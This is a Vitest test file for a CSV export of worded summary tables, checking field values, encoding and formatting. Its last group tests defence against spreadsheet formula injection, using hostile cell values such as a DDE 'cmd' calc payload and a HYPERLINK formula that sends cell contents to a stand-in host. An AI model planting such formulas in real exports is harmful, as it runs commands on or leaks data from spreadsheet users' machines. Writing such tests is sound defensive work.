import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { parseFraction } from '@/lib/domain/shared/fraction';
import type { WordedCell, WordedTable } from '@/lib/domain/summary/worded';
import { wordedExample } from '@/lib/testing/summaries/worded-summaries';
import { summaryCsv } from './summary-csv';

const summary = wordedExample();
const tables = summary.sections.flatMap((section) => section.tables);
const read = (bytes: Buffer): readonly (readonly string[])[] => parse(bytes, { delimiter: ';', bom: true });
const number = (text: string): number => Number(text.replace(' %', '').replace(',', '.'));

/** What a field is to say, by the figure itself and by no code of the writer. */
function expected({ cell, text }: WordedCell): number | string {
  switch (cell.kind) {
    case 'COUNT':
      return cell.n;
    case 'SHARE':
      return (100 * cell.n) / cell.of;
    case 'DAYS':
      return cell.n === 0 ? '' : cell.days / cell.n;
    case 'MONEY':
      return cell.ore / 100;
    case 'TURNS': {
      const turns = parseFraction(cell.turns);
      return Number(turns?.n) / Number(turns?.d);
    }
    case 'FIGURE':
      return Number(cell.value);
    case 'DATE':
      return cell.on.split('-').reverse().join('.');
    case 'WORD':
      return text;
    default:
      return '';
  }
}

const inBoth = (['da', 'en'] as const).flatMap((locale) => {
  const { sections, words } = wordedExample(locale);
  return sections.flatMap((section) =>
    section.tables.map((table) => [table.id, locale, table, words] as const),
  );
});

test.each(inBoth)(
  'another library reads in every field of %s what the page shows, in %s',
  (_, __, table, words) => {
    const [heading = [], ...rows] = read(summaryCsv(table, words));
    const first = table.rows.some(({ under }) => under !== null) ? 2 : 1;
    const all = [...table.rows.map(({ cells }) => cells), ...(table.total === null ? [] : [table.total])];
    expect(rows).toHaveLength(all.length);
    for (const [at, { title }] of table.columns.entries()) expect(heading[first + at]).toContain(title);
    for (const [row, cells] of all.entries())
      for (const [at, cell] of cells.entries()) {
        const [wanted, field = 'none'] = [expected(cell), rows[row]?.[first + at]];
        if (typeof wanted === 'number') expect(number(field)).toBeCloseTo(wanted, 2);
        else expect(field).toBe(wanted);
      }
  },
);

test('it is UTF-8 with its mark, semicolons, a comma before decimals, and line ends as spreadsheets write them', () => {
  const voids = tables.find(({ id }) => id === 'voids');
  const text = voids ? summaryCsv(voids, summary.words).toString('utf8') : '';
  const heading = `Grund;${voids?.columns[0]?.title} (kr.)`;
  expect(text).toBe(`\ufeff${heading}\r\nIstandsættelse;45120,05\r\nAndet;-12,50\r\nI alt;45107,55\r\n`);
});

describe('a name that a spreadsheet would run', () => {
  const table = (label: string): WordedTable => ({
    ...{
      id: 'one',
      title: 'En',
      explanation: '',
      rowsTitle: 'Afdeling',
      underTitle: '',
      columns: [],
      total: null,
      chart: null,
    },
    rows: [{ id: 'a', label, under: null, cells: [] }],
  });

  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+45 12',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '|calc',
    '%0A',
    '＝1+1',
    '=HYPERLINK("http://x.invalid?a="&A1,"Klik; her")',
  ])('%j is text: an apostrophe stands before it', (label) => {
    const bytes = summaryCsv(table(label), summary.words);
    expect(read(bytes)[1]).toEqual([`'${label}`]);
    expect(bytes.toString('utf8').split('\r\n')[1]).toMatch(/^"?'/);
  });

  test.each(['Sønderengen', '3 = tre', 'a;b', 'han sagde "hej"', ' =1'])('%j is left as it is', (label) =>
    expect(read(summaryCsv(table(label), summary.words))[1]).toEqual([label]),
  );
});
